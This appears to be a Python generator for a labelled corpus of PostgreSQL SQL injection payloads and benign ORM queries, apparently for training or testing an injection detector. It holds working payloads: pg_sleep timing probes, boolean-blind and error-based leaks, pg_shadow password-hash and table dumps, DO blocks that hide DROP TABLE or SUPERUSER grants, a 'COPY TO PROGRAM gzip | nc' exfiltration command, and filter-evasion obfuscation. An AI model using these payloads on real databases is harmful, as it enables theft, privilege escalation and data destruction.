            ("assign_read_binary", "assign", "{col} = encode(pg_read_binary_file('%s', 0, 200), 'hex')" % f), ("row_read_binary", "row", row_of("encode(pg_read_binary_file('%s'), 'escape')" % f)),
            ("stored_read_binary", "stack", "SELECT pg_read_binary_file('%s')" % f), ("stored_copy_to_program_gzip", "stack", "COPY %s TO PROGRAM 'gzip | nc %s 443'" % (t, ip))]]
    if fam == "time_pg_sleep":
        return [(n, m, c, PG) for n, m, c in [
            ("and_sleep_row_not_null", "cond", "AND ROW(pg_sleep(%d)::text) IS NOT NULL" % s), ("and_sleep_eq_any", "cond", "AND '' = ANY(SELECT pg_sleep(%d)::text)" % s),
            ("and_sleep_greatest_zero", "cond", "AND greatest(0, (SELECT 0 FROM pg_sleep(%d))) = 0" % s), ("and_sleep_array_len", "cond", "AND array_length(ARRAY[(SELECT pg_sleep(%d))], 1) = 1" % s),
            ("and_heavy_array_agg", "cond", "AND (SELECT count(*) FROM (SELECT array_agg(g) FROM generate_series(1, %d000000) g) z) = 1" % s),
            ("and_sleep_for_mult", "cond", "AND pg_sleep_for(%d * interval '1 second') IS NULL" % s), ("and_sleep_json_array", "cond", "AND json_build_array(pg_sleep(%d)) IS NOT NULL" % s),
            ("and_sleep_if_postgres", "cond", "AND (CASE WHEN current_user = 'postgres' THEN pg_sleep(%d) END) IS NULL" % s),
            ("or_probe_sleep_for", "cond", "OR (CASE WHEN %s THEN pg_sleep_for('%d s') END) IS NOT NULL" % (pe, s)),
            ("and_heavy_regexp_series", "cond", "AND (SELECT count(*) FROM generate_series(1, %d00000) g WHERE g::text ~ '(1+)+2') >= 0" % s),
            ("stack_values_sleep", "stack", "VALUES (pg_sleep(%d))" % s), ("stack_sleep_from", "stack", "SELECT * FROM pg_sleep(%d)" % s),
            ("stack_explain_analyze_sleep", "stack", "EXPLAIN ANALYZE SELECT pg_sleep(%d)" % s), ("stack_prepare_execute_sleep", "stack", "PREPARE %s AS SELECT pg_sleep($1); EXECUTE %s(%d)" % (nm, nm, s)),
            ("stack_probe_sleep_for", "stack", "SELECT pg_sleep_for(CASE WHEN %s THEN '%d seconds'::interval ELSE '0'::interval END)" % (pe, s)),
            ("union_sleep_label", "union", "UNION ALL SELECT %s" % nulls(r.randint(1, 4), 0, "(SELECT 'slept' FROM pg_sleep(%d))" % s)),
            ("order_sleep_case", "order", "(CASE WHEN %s THEN (SELECT 1 FROM pg_sleep(%d)) ELSE 1 END)" % (pe, s)), ("repl_sleep_length", "repl", "(SELECT length(pg_sleep(%d)::text) + %d)" % (s, a)),
            ("concat_sleep_format", "concat", "format('%%s', pg_sleep(%d))" % s), ("assign_sleep_coalesce_col", "assign", "{col} = coalesce((SELECT NULL FROM pg_sleep(%d)), {col})" % s),
            ("interval_sleep_sub", "iexpr", "(SELECT interval '0' FROM pg_sleep_for('%d seconds'))" % s), ("jkey_sleep_text", "jkey", "pg_sleep(%d)::text" % s),
            ("stored_and_sleep_row", "cond", "AND ROW(pg_sleep(%d)::text) IS NOT NULL" % s)]] + [("row_sleep_scalar", "row", row_of("(SELECT 'x' FROM pg_sleep(%d))" % s), PG)]
    if fam == "boolean_blind":
        pn, pex = probe_named(r)
        pn2, pex2 = probe_named(r, "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who))
        return [("and_" + pn, "cond", "AND " + pex, PG), ("and_not_" + pn, "cond", "AND NOT (" + pex + ")", PG), ("secret_" + pn2, "cond", "AND " + pex2, PG),
                ("stored_" + pn2, "cond", "AND " + pex2, PG)] + [(n, "cond", c, PG) for n, c in [
                ("and_num_gt", "AND %d > %d" % (b, a)), ("and_num_lt_false", "AND %d < %d" % (b, a)), ("and_secret_row_exists", "AND EXISTS (SELECT 1 FROM %s WHERE %s = '%s' AND %s IS NOT NULL)" % (t, u, who, p)),
                ("and_has_table_privilege", "AND has_table_privilege('pg_authid', 'SELECT')"), ("and_has_function_privilege", "AND has_function_privilege('pg_read_file(text)', 'EXECUTE')"),
                ("and_not_in_recovery", "AND NOT pg_is_in_recovery()"), ("and_plpython_installed", "AND EXISTS (SELECT 1 FROM pg_extension WHERE extname LIKE 'plpython%')"),
                ("and_superuser_count", "AND (SELECT count(*) FROM pg_roles WHERE rolsuper) > %d" % (a % 3)), ("and_timezone_like", "AND current_setting('TimeZone') LIKE '%s%%'" % r.choice("EAUP")),
                ("and_max_connections", "AND current_setting('max_connections')::int > %d" % (a * 2)), ("and_encoding_utf8", "AND pg_encoding_to_char((SELECT encoding FROM pg_database WHERE datname = current_database())) = 'UTF8'"),
                ("and_ssl_in_use", "AND EXISTS (SELECT 1 FROM pg_stat_ssl WHERE pid = pg_backend_pid() AND ssl)")]] + [
            ("assign_probe_case", "assign", "{col} = (CASE WHEN %s THEN {col} ELSE {col} END)" % pe, PG), ("row_probe_flag", "row", row_of("(CASE WHEN %s THEN 1 ELSE 0 END)::text" % pe), PG),
            ("order_probe_div", "order", "(CASE WHEN %s THEN 0 ELSE 1/0 END)" % pe, PG), ("jkey_probe_flag", "jkey", "(CASE WHEN %s THEN 'T' ELSE 'F' END)" % pe, PG)]
    if fam == "error_cast":
        return [(n, "cond", c, PG) for n, c in [
            ("cast_tid", "AND %s::tid IS NULL" % x), ("cast_pg_lsn", "AND %s::pg_lsn IS NULL" % x), ("cast_cidr", "AND CAST(%s AS cidr) IS NULL" % x),
            ("cast_timetz", "AND %s::timetz IS NULL" % x), ("cast_numrange", "AND %s::numrange IS NULL" % x), ("cast_txid_snapshot", "AND %s::txid_snapshot IS NULL" % x),
            ("cast_time", "AND CAST(%s AS time) IS NULL" % x), ("cast_regcollation", "AND %s::regcollation IS NULL" % x), ("cast_xid8", "AND %s::xid8 > '0'" % x),
            ("cast_varbit", "AND %s::varbit IS NULL" % x), ("decode_hex_leak", "AND decode(%s, 'hex') IS NULL" % x), ("cast_numeric_typmod_overflow", "AND length(%s)::numeric(1,0) = 1" % x),
            ("cast_line", "AND %s::line IS NULL" % x), ("cast_tsrange", "AND %s::tsrange IS NULL" % x), ("date_trunc_unit_leak", "AND date_trunc(%s, now()) IS NULL" % x),
            ("date_part_unit_leak", "AND date_part(%s, now()) = 1" % x), ("encode_format_leak", "AND encode('x'::bytea, %s) IS NULL" % x),
            ("convert_to_encoding_leak", "AND convert_to('x', %s) IS NULL" % x), ("current_setting_name_leak", "AND current_setting(%s) IS NULL" % x),
            ("nextval_relation_leak", "AND nextval(%s) > 0" % x), ("has_table_privilege_leak", "AND has_table_privilege(%s, 'SELECT')" % x),
            ("cast_real", "AND %s::real = 1" % x), ("stored_cast_tid", "AND %s::tid IS NULL" % x)]] + [
            ("repl_cast_float4", "repl", "%s::float4" % x, PG), ("concat_cast_time_text", "concat", "CAST(%s AS time)::text" % x, PG), ("order_cast_int2", "order", "%s::int2" % x, PG),
            ("assign_cast_numeric_col", "assign", "{col} = %s::numeric" % x, PG), ("row_cast_timetz", "row", row_of("CAST(%s AS timetz)" % x), PG),
            ("interval_unit_leak", "iexpr", "(%s || ' fortnights')::interval" % x, PG), ("jkey_cast_int8", "jkey", "%s::int8::text" % x, PG)]
    if fam == "dollar_quote":
        tg = r.choice(OPEN_TAGS)
        D = lambda v: tg + v + tg
        gt = r.choice(GUESSED_TAGS)
        n = r.randint(1, 4)
        return [
            ("or_dollar_upper_eq", "cond", "OR upper(%s) = %s" % (D(w), D(w.upper())), PG), ("or_dollar_between", "cond", "OR %s BETWEEN %s AND %s" % (D("b"), D("a"), D("c")), PG),
            ("or_dollar_regex", "cond", "OR %s ~ %s" % (D(w), D("^" + w[0])), PG), ("and_dollar_setting", "cond", "AND current_setting(%s) = %s" % (D("is_superuser"), D("on")), PG),
            ("or_dollar_length_eq", "cond", "OR char_length(%s) = %d" % (D(w), len(w)), PG),
            ("dollar_update_secret", "stack", "UPDATE %s SET %s = %s WHERE %s = %s" % (t, p, D(rword(r, 10)), u, D(who)), PG),
            ("dollar_comment_on_column", "stack", "COMMENT ON COLUMN %s.%s IS %s" % (t, p, D("pwned by " + w)), PG),
            ("dollar_copy_from_program_temp", "stack", "CREATE TEMP TABLE %s (o text); COPY %s FROM PROGRAM %s" % (nm, nm, D(pc)), PG),
            ("dollar_lo_import", "stack", "SELECT lo_import(%s)" % D(f), PG), ("dollar_set_config_search_path", "stack", "SELECT set_config(%s, %s, false)" % (D("search_path"), D("pg_temp, public")), PG),
            ("dollar_create_function_sql", "stack", "CREATE FUNCTION %s() RETURNS text LANGUAGE sql AS %s" % (nm, D("SELECT string_agg(%s, ',') FROM %s" % (p, t)) if tg != "$$" else "$b$SELECT 1$b$"), PG),
            ("union_dollar_values", "union", "UNION ALL VALUES (%s)" % nulls(n, r.randrange(n), D(w) + " || " + e), PG),
            ("dollar_concat_setting", "concat", "%s || current_setting(%s)" % (D(":"), D("data_directory")), PG), ("dollar_repl_position", "repl", "(SELECT position(%s in %s))" % (D("a"), D("ba")), PG),
            ("dollar_assign_md5", "assign", "{col} = md5(%s)" % D(w), PG), ("dollar_row_json", "row", row_of(D("{}")), PG)] + [
            ("tag_probe_" + (gt.strip("$").lower() or "empty"), "stack", "SELECT %s%s%s" % (gt, w2, gt), PG)]
    if fam == "e_escape":
        hx2 = lambda v: "".join("\\x%02x" % ord(c) for c in v)
        oc3 = lambda v: "".join("\\%03o" % ord(c) for c in v)
        uc = lambda v: "".join("\\u%04X" % ord(c) for c in v)
        mix = lambda v: "".join(("\\x%02x" if i % 2 else "\\%03o") % ord(c) for i, c in enumerate(v))
        return [
            ("e_mixed_hex_octal_eq", "cond", "OR E'%s' = '%s'" % (mix(w), w), PG), ("e_hex_setting_name", "cond", "AND current_setting(E'%s') = 'on'" % hx2("is_superuser"), PG),
            ("e_octal_has_role", "cond", "AND pg_has_role(E'%s', 'USAGE')" % oc3(role), PG), ("e_formfeed_ne", "cond", "OR E'\\f' <> ''", PG),
            ("uamp_caret_uescape_eq", "cond", "OR U&'^%04X%s' UESCAPE '^' = '%s'" % (ord(w[0]), w[1:], w), PG),
            ("e_unicode_upper_quote_eq", "cond", "OR E'\\u0027' || 'x' = chr(39) || 'x'", PG),
            ("e_hex_copy_to_tmp", "stack", "COPY %s TO E'%s'" % (t, hx2("/tmp/" + nm)), PG), ("e_octal_lo_export", "stack", "SELECT lo_export(%d, E'%s')" % (oid, oc3("/tmp/" + nm)), PG),
            ("e_unicode_alter_role", "stack", "ALTER ROLE %s PASSWORD E'%s'" % (r.choice(["postgres", "loft_owner"]), uc(rword(r, 8))), PG),
            ("e_union_hex_label", "union", "UNION ALL SELECT %s" % nulls(r.randint(1, 4), 0, "E'\\x3d' || %s" % e), PG),
            ("e_concat_cr", "concat", "E'\\r' || %s" % x, PG), ("e_interval_hex", "iexpr", "E'\\x31 day'::interval", PG),
            ("e_assign_hex", "assign", "{col} = E'%s'" % hx2(w), PG), ("e_row_unicode", "row", row_of("E'%s'" % uc(w)), PG)]
    if fam == "plpgsql_do_exec":
        tg = r.choice(DO_TAGS)
        Bq = lambda body: tg + " " + body + " " + tg
        evil = r.choice(["DROP TABLE %s" % t, "ALTER ROLE %s SUPERUSER" % r.choice(["loft_owner", nm]), "CREATE ROLE %s SUPERUSER LOGIN PASSWORD 'x'" % nm,
                         "GRANT pg_read_server_files TO PUBLIC", "COPY (SELECT 1) TO PROGRAM '%s'" % pc.replace("'", ""), "TRUNCATE %s CASCADE" % t,
                         "UPDATE %s SET %s = NULL" % (t, p)])
        half = len(evil) // 2
        return [(n, "stack", c, PG) for n, c in [
            ("do_execute_regexp_replace", "DO %s" % Bq("BEGIN EXECUTE regexp_replace('%s', '#', '', 'g'); END" % sq("#".join(evil[i:i + 3] for i in range(0, len(evil), 3))))),
            ("do_execute_jsonb_field", "DO %s" % Bq("BEGIN EXECUTE ('{\"q\": \"%s\"}'::jsonb ->> 'q'); END" % sq(evil).replace('"', '\\"'))),
            ("do_execute_left_right", "DO %s" % Bq("BEGIN EXECUTE left('%s', %d) || right('%s', %d); END" % (sq(evil[:half]) + "zz", half, "zz" + sq(evil[half:]), len(evil) - half))),
            ("do_execute_variable_concat", "DO %s" % Bq("DECLARE s text := '%s'; BEGIN s := s || '%s'; EXECUTE s; END" % (sq(evil[:half]), sq(evil[half:])))),
            ("do_for_in_execute_notice", "DO %s" % Bq("DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT %s AS v FROM %s' LOOP RAISE NOTICE '%%', r.v; END LOOP; END" % (p, t))),
            ("do_exception_others_execute", "DO %s" % Bq("BEGIN EXECUTE '%s'; EXCEPTION WHEN OTHERS THEN NULL; END" % sq(evil))),
            ("do_foreach_array_execute", "DO %s" % Bq("DECLARE q text; BEGIN FOREACH q IN ARRAY ARRAY['%s', 'SELECT 1'] LOOP EXECUTE q; END LOOP; END" % sq(evil))),
            ("do_while_sleep_loop", "DO %s" % Bq("DECLARE i int := 0; BEGIN WHILE i < %d LOOP PERFORM pg_sleep(1); i := i + 1; END LOOP; END" % s)),
            ("do_perform_set_config_role", "DO %s" % Bq("BEGIN PERFORM set_config('role', 'postgres', false); EXECUTE '%s'; END" % sq(evil))),
            ("do_execute_split_part", "DO %s" % Bq("BEGIN EXECUTE split_part('x|%s|y', '|', 2); END" % sq(evil))),
            ("create_procedure_inout_call", "CREATE OR REPLACE PROCEDURE %s(INOUT r text DEFAULT NULL) LANGUAGE plpgsql AS %s; CALL %s()" % (nm, Bq("BEGIN EXECUTE '%s'; r := 'ok'; END" % sq(evil)), nm)),
            ("create_trigger_function_exec", "CREATE FUNCTION %s() RETURNS trigger LANGUAGE plpgsql AS %s; CREATE TRIGGER %s AFTER INSERT ON %s FOR EACH ROW EXECUTE FUNCTION %s()"
             % (nm, Bq("BEGIN EXECUTE '%s'; RETURN NEW; END" % sq(evil)), nm, t, nm)),
            ("create_function_returns_table", "CREATE FUNCTION %s() RETURNS TABLE (v text) LANGUAGE plpgsql SECURITY DEFINER AS %s; SELECT * FROM %s()"
             % (nm, Bq("BEGIN RETURN QUERY EXECUTE 'SELECT %s::text FROM %s'; END" % (p, t)), nm)),
            ("stored_do_execute_split_part", "DO %s" % Bq("BEGIN EXECUTE split_part('x|%s|y', '|', 2); END" % sq(evil)))]]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("backend_pid", "pg_backend_pid()::text"), ("txid_current", "txid_current()::text"), ("ident_file", "current_setting('ident_file')"),
            ("datnames_agg", "(SELECT string_agg(datname, ',') FROM pg_database)"), ("extensions_agg", "(SELECT string_agg(extname, ',') FROM pg_extension)"),
            ("superusers_agg", "(SELECT string_agg(rolname, ',') FROM pg_roles WHERE rolsuper)"), ("activity_first_user", "(SELECT usename FROM pg_stat_activity WHERE usename IS NOT NULL LIMIT 1)"),
            ("config_file_setting", "(SELECT setting FROM pg_settings WHERE name = 'config_file')"), ("client_port", "inet_client_port()::text"),
            ("loot_json_agg", "(SELECT json_agg(z)::text FROM %s z)" % t), ("loot_prefix", "(SELECT substr(%s, 1, 8) FROM %s LIMIT 1)" % (p, t)),
            ("postmaster_start", "pg_postmaster_start_time()::text"), ("secdef_functions", "(SELECT string_agg(proname, ',') FROM pg_proc WHERE prosecdef)"),
            ("loot_count", "(SELECT count(*) FROM %s)::text" % t), ("loot_columns_agg", "(SELECT string_agg(attname, ',') FROM pg_attribute WHERE attrelid = '%s'::regclass AND attnum > 0)" % t.replace("'", "''")),
            ("stored_loot_prefix", "(SELECT substr(%s, 1, 8) FROM %s LIMIT 1)" % (p, t)), ("probe_digit", "(CASE WHEN %s THEN '1' ELSE '0' END)" % pe)]] + [
            ("assign_shadow_first", "assign", "{col} = (SELECT passwd FROM pg_shadow WHERE passwd IS NOT NULL LIMIT 1)", PG),
            ("row_loot_json", "row", row_of("(SELECT json_agg(z)::text FROM %s z)" % t, "NULL"), PG), ("jkey_loot_prefix", "jkey", "(SELECT substr(%s, 1, 8) FROM %s LIMIT 1)" % (p, t), PG)]
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off, mostly as dev's hand-written rows do."""
    return r.choice(["--", "--", "--", "-- ", "-- ", "-- -", "-- -", "--+", "/*", "-- z", ";--", "; --", "--%s" % rword(r, 2), "-- ;", "-- %s" % rword(r, 5)])


def breakout(r, si, orig, mode, core):
    return corpus_kit.slot_breakout(globals(), r, si, orig, mode, core)


def kind_lead_in(knd, orig):
    return corpus_kit.kind_lead_in(knd, orig)


MODES = {"q": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict", "iexpr", "jkey"),
         "e": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict"),
         "d": ("stack", "repl", "concat"), "qi": ("cond", "stack", "order"),
         "n": ("cond", "union", "stack", "repl", "concat", "order", "row", "assign", "returning", "conflict", "frame", "sub"),
         "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack",)}
SLOT_MODES = {"row": lambda si: si["row"] and si["lead"] == "INSERT", "conflict": lambda si: si["row"] and si["lead"] == "INSERT",
              "assign": lambda si: si["in_set"], "returning": lambda si: si["dml"], "iexpr": lambda si: si["kind"] == "interval",
              "frame": lambda si: si["frame"] and si["type"] == "n", "sub": lambda si: si["subscript"], "jkey": lambda si: si["jkey"]}


def fitting(si, cores):
    """The cores whose mode has a form for the slot; slot-aimed modes are kept only where they fit and
    weighted up; stored_* cores only (and more often) where a stored value is replayed."""
    out = []
    for c in corpus_kit.fitting(si, cores, MODES):
        if c[1] in SLOT_MODES:
            if SLOT_MODES[c[1]](si):
                out += [c] * 2
        elif c[0].startswith("stored_"):
            if si["second_order"]:
                out += [c] * 8
        else:
            out.append(c)
    return out


# how often a hand-written payload whose statement would not parse is kept anyway (dev.jsonl's rates)
HAND_KEEP_FAIL = {"union": 0.2, "e_escape": 0.05, "obf_nospace": 0.06}


def hand(r, si, fam):
    """A hand-written payload for the slot (corpus_kit.slot_hand), redrawn up to seven times while the statement it
    makes would not parse (plausible), as dev.jsonl's hand-written rows nearly all do."""
    res = None
    for _ in range(8):
        res = corpus_kit.slot_hand(globals(), r, si, fam)
        if res is not None and r.random() < 0.92:
            res = (res[0], tidy(res[1], si["type"])) + res[2:]
        if res is None or plausible_fill(si, res[1]) or r.random() < HAND_KEEP_FAIL.get(fam, 0.03):
            return res
    return res


def tidy(s, typ):
    """Tabs, line feeds, carriage returns and form feeds outside the payload's literals and comments made single
    spaces, as dev.jsonl's payloads have them outside its whitespace-obfuscation rows (a line feed that ends a --
    comment before more payload stays)."""
    segs = segments(s, typ)
    out = []
    for i, (t, e) in enumerate(segs):
        if e:
            lead = ""
            if i > 0 and segs[i - 1][0].startswith("--") and t.lstrip(" \t\r\f").startswith("\n"):
                lead, t = "\n", t.lstrip(" \t\r\f")[1:]
                if not t.strip():
                    lead, t = "", ""
            t = lead + re.sub(r"[\t\n\r\f]+", " ", t)
            t = re.sub(r"  +", " ", t)
        out.append(t)
    return "".join(out)


# ---------------------------------------------------------------- whether a filled template would get through the parser
_OWNER = {}


def slot_owner(si):
    """The (template, slot) whose slot_info is si (slot_info hands out one dict per slot)."""
    if not _OWNER:
        for t in T:
            for k in t[2]:
                _OWNER[id(slot_info(t, k))] = (t, k)
    return _OWNER[id(si)]


# words that may follow a literal or a number in the templates' clauses
AFTER_VALUE = set("""AND OR AS IS IN NOT LIKE ILIKE SIMILAR BETWEEN ESCAPE UESCAPE THEN ELSE END WHEN FROM FOR COLLATE AT ORDER GROUP HAVING
LIMIT OFFSET FETCH UNION EXCEPT INTERSECT WHERE RETURNING ON USING INTO ASC DESC NULLS WINDOW OVERLAPS ISNULL NOTNULL ROWS ROW ONLY
PRECEDING FOLLOWING DO SET WITH TO RANGE AND SYMMETRIC CROSS JOIN LEFT RIGHT INNER FULL NATURAL DAY HOUR MINUTE SECOND MONTH YEAR
RLIKE XOR DIV MOD REGEXP""".split())


def plausible(sql):
    """A cheap stand-in for PostgreSQL's parser: no unterminated literal, quoted identifier or /* comment, brackets
    that balance, no statement ending on an operator, no two literals or numbers side by side, no word after a
    literal or number that could not follow one, no second WHERE at the same level of one query."""
    depth, prev = 0, None
    wheres = [False]
    for k, v in lex(sql):
        if k in ("US", "UQ") or (k == "C" and v.startswith("/*") and not v.endswith("*/")):
            return False
        if k == "C":
            continue
        if k in ("(", "["):
            depth += 1
            wheres.append(False)
        elif k in (")", "]"):
            depth -= 1
            if depth < 0:
                return False
            wheres.pop()
        elif k == ";":
            if depth or (prev is not None and prev[0] == "O"):
                return False
            wheres = [False]
        elif k == "W":
            if v in ("SELECT", "UNION", "EXCEPT", "INTERSECT", "UPDATE", "DELETE"):
                wheres[-1] = False
            elif v == "WHERE":
                if wheres[-1]:
                    return False
                wheres[-1] = True
            if prev is not None and prev[0] in ("S", "N") and v not in AFTER_VALUE and not (prev[1] == "0" and v.startswith("X")):
                return False
        if prev is not None and k == prev[0] and k in ("S", "N"):
            return False
        prev = (k, v)
    return depth == 0 and (prev is None or prev[0] != "O")


def plausible_fill(si, value):
    tpl, slot = slot_owner(si)
    f = {k: v[1][0] for k, v in tpl[2].items()}
    f[slot] = value
    return plausible(render(tpl, f, raw=(slot,)))


# ---------------------------------------------------------------- obfuscation of a built payload (outside its literals and comments)
def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)
    if fam == "obf_case_mix":
        style = r.randrange(6)

        def cm(m):
            w = m.group(0)
            if style == 0:
                return w[:1].lower() + w[1:].upper()
            if style == 1:
                return "".join(c.upper() if j % 3 == 2 else c.lower() for j, c in enumerate(w))
            if style == 2:
                return "".join(c.upper() if c.lower() in "aeiou" else c.lower() for c in w)
            if style == 3:
                return "".join(c.upper() if r.random() < 0.4 else c.lower() for c in w)
            if style == 4:
                return w[:1].upper() + w[1:-1].lower() + w[-1:].upper() if len(w) > 2 else w.swapcase()
            return w[:len(w) // 2].lower() + w[len(w) // 2:].upper()
        return "".join(re.sub(r"[A-Za-z_]{2,}", cm, t) if e else t for t, e in segs)
    if fam == "obf_whitespace":
        pool = ["\t", "\n", "\r\n", "\f", "\n\t", "\t\r\n", " \n ", "\r\n\r\n", "\f\t", "   ", "\t \t", "\r"]

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"\(", lambda m: r.choice(["(\n", "(\r\n", "( ", "("]) if r.random() < 0.25 else "(", t)
            return re.sub(r"((?<![<>!:=])=(?![=>])|,)", lambda m: r.choice(["\t", "\n", "\r"]) + m.group(1) + r.choice(["\n", "\t", ""]) if r.random() < 0.35 else m.group(1), t)
        return "".join(ws(t) if e else t for t, e in segs)
    if fam == "obf_inline_comment":
        pool = ["/**/", "/*23*/", "/*-*/", "/*++*/", "/*x1*/", "/*!*/", "/*,*/", "/*^^*/", "/* c d */", "/*\t*/", "/*%s*/" % rword(r, r.randint(2, 6)).upper(), "/*;*/"]
        split_kw = r.random() < 0.12

        def ic(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            if split_kw:
                t = re.sub(r"\b(SELECT|UNION|FROM|AND|PG_SLEEP|pg_sleep)\b", lambda m: m.group(0)[:len(m.group(0)) // 2] + "/**/" + m.group(0)[len(m.group(0)) // 2:], t, count=1)
            return re.sub(r"\(", lambda m: "/**/(" if r.random() < 0.3 else "(", t)
        return "".join(ic(t) if e else t for t, e in segs)
    if fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+;~&^@?%*/-]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|NOT|not|SELECT|select|WHEN|when|THEN|then|ELSE|else|IN|in|BY|by|UNION|union|ALL|all) (\d+|true|false|NULL|null|current_user|session_user|now\(\)|version\(\))",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            t = re.sub(r"\b(OR|AND|or|and|IN|in|SELECT|select|THEN|then|ELSE|else|LIKE|like) (')", r"\1\2", t)
            return t
        return without_spaces(segs, typ, squeeze)
    raise KeyError(fam)




# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Orla O'Driscoll", "Anna Lindqvist", "Hugh Penrose", "Margaret Oyelaran", "Vinnie Russo", "Seán Ó Briain", "Jo Carter", "Hans Vogel",
          "Sam Keeler", "Valeria Ramos", "Lord Gottle", "Bryn Hughes", "Kemi Adeyemi-Clarke", "D'Souza Patel"]
RESORTS = ["Tromsø", "Kiruna", "Lerwick", "Oban", "Whitby", "Padstow"]
T23_TABLES = ["orchid_stock", "orchid_repots", "orchid_grexes", "yacht_charters", "marina_berths", "berth_bookings", "vent_members", "vent_figures", "vent_scripts",
              "rodeo_entries", "rodeo_scores", "rodeo_events", "watch_customers", "watch_straps", "timegrapher_readings", "bridge_results", "bridge_boards",
              "topiary_shapes", "clip_schedule", "uke_songs", "uke_attendance", "skip_hires", "weighbridge_tickets", "vivarium_temps", "reptile_feeds",
              "stays", "stay_reviews", "ostrich_eggs", "feather_lots", "client_notes"]

def tricky(r):
    """A value from the input pools as an application would escape it inside a literal."""
    return r.choice(POOLS[r.choice(["input_apostrophe_names", "input_sql_words", "input_plain", "input_unicode", "input_punctuation"])]).replace("'", "''")


def complex_gens():
    G, add = registry()

    @add("cx23_freesql_sqlsugar_orm", "complex_orm_generated")
    def _(r):
        n = r.randint(1, 9000)
        return r.choice([
            "SELECT \"LPA_L1\".\"CommissionId\", \"LPA_L1\".\"Model\", \"LPA_L1\".\"Status\" FROM \"public\".\"charter_quotes\" \"LPA_L1\" WHERE ( ( \"LPA_L1\".\"CommissionId\" = $1))",
            "SELECT \"LPA_L1\".\"StringId\", \"LPA_L1\".\"Gauge\" FROM \"public\".\"calibre_parts\" \"LPA_L1\" WHERE ( ( \"LPA_L1\".\"Qty\" < %d)) ORDER BY \"LPA_L1\".\"Gauge\" ASC" % r.randint(1, 20),
            "UPDATE \"public\".\"charter_quotes\" SET \"Status\"=$1 WHERE ( \"public\".\"charter_quotes\".\"CommissionId\" = %d)" % n,
            "INSERT INTO \"SailOrder\" (\"OrderRef\", \"BoatClass\", \"SailType\", \"LuffMm\") VALUES ($1, $2, $3, $4) RETURNING \"Id\"",
            "SELECT \"Id\", \"OrderRef\", \"BoatClass\", \"DueOn\" FROM \"SailOrder\" WHERE (\"LoftId\" = $1) ORDER BY \"DueOn\" DESC",
            "SELECT COUNT(*) AS \"CountValue\" FROM \"SailRepair\" WHERE (\"OrderId\" = %d)" % n])

    @add("cx23_linq2db_marten_orm", "complex_orm_generated")
    def _(r):
        n = r.randint(1, 5000)
        return r.choice([
            "SELECT \"watch_customers\".\"CustomerId\" AS \"CustomerId\", \"watch_customers\".\"Name\" AS \"Name\", \"watch_customers\".\"Email\" AS \"Email\" FROM \"watch_customers\" WHERE CustomerId = %d" % n,
            "SELECT me.booking_id, me.beat_id, me.rod_name, me.fish_on FROM stays me WHERE ( me.fish_on >= $1 ) ORDER BY me.fish_on",
            "SELECT me.ghillie_id, me.name, gardens.beat_id FROM gardener me LEFT JOIN gardens gardens ON gardens.ghillie_id = me.ghillie_id WHERE ( me.ghillie_id = %d )" % (n % 40 + 1),
            "INSERT INTO reptile_feeds ( angler, beat_id, released, species, weight_lb) VALUES ( $1, $2, $3, $4, $5 ) RETURNING return_id",
            "SELECT COUNT( * ) FROM reptile_feeds me WHERE ( ( me.beat_id = %d AND me.species = '%s' ) )" % (n % 30 + 1, r.choice(["salmon", "sea trout", "grayling", "brown trout"])),
            "UPDATE stays SET rod_name = '%s' WHERE ( booking_id = %d )" % (r.choice(PEOPLE).replace("'", "''"), n)])

    @add("cx23_komapper_korma_orm", "complex_orm_generated")
    def _(r):
        n = r.randint(1, 3000)
        return r.choice([
            "SELECT t0.student_id, t0.name, t0.hand FROM mushers t0 WHERE t0.student_id = $1",
            "SELECT t0.course_id, t0.title, t0.tutor, t0.starts_on FROM kennel_courses t0 WHERE t0.starts_on >= $1 ORDER BY t0.starts_on",
            "SELECT DISTINCT t0.tutor_id, t0.name FROM kennel_tutors t0 JOIN kennel_courses t1 ON (t0.tutor_id = t1.tutor_id) WHERE t1.title LIKE $1",
            "SELECT \"feather_orders\".\"id\", \"feather_orders\".\"order_code\", \"feather_orders\".\"style\", \"feather_orders\".\"size_eu\" FROM \"feather_orders\" WHERE (\"feather_orders\".\"id\" = $1)",
            "INSERT INTO \"bonsai_fittings\"(\"order_id\",\"foot_notes\",\"fitted_on\") VALUES ($1,$2,$3) RETURNING \"id\"",
            "UPDATE \"feather_orders\" SET \"style\"=$1,\"size_eu\"=$2 WHERE \"id\"=%d" % n,
            "SELECT \"feather_lots\".\"id\", \"feather_lots\".\"timber\" FROM \"feather_lots\" WHERE (\"feather_lots\".\"seasoned_months\" >= %d) ORDER BY \"feather_lots\".\"id\" ASC" % r.randint(3, 24)])

    @add("cx23_vapor_jennifer_orm", "complex_orm_generated")
    def _(r):
        n = r.randint(1, 12000)
        return r.choice([
            "SELECT * FROM \"rodeo_entries\" WHERE (\"team\" = $1) ORDER BY \"name\" ASC LIMIT %d" % r.choice([25, 50]),
            "SELECT \"fixture_id\", \"home_team\", \"away_team\" FROM \"rodeo_events\" WHERE (\"division\" = $1 AND \"match_day\" >= $2)",
            "INSERT INTO \"rodeo_scores\" (\"colour\", \"fixture_id\", \"minute\", \"player_id\") VALUES ($1, $2, $3, $4) RETURNING \"card_id\"",
            "SELECT rodeo_events.away_team, rodeo_events.division, rodeo_events.fixture_id, rodeo_events.home_team FROM rodeo_events AS rodeo_events WHERE fixture_id = $1 LIMIT 1",
            "SELECT COUNT(*) AS row_count FROM (SELECT rodeo_entries.player_id FROM rodeo_entries AS rodeo_entries WHERE team = '%s') a" % r.choice(["Otters", "Kingfishers", "O'Neill Eels", "Mersey Pike"]).replace("'", "''"),
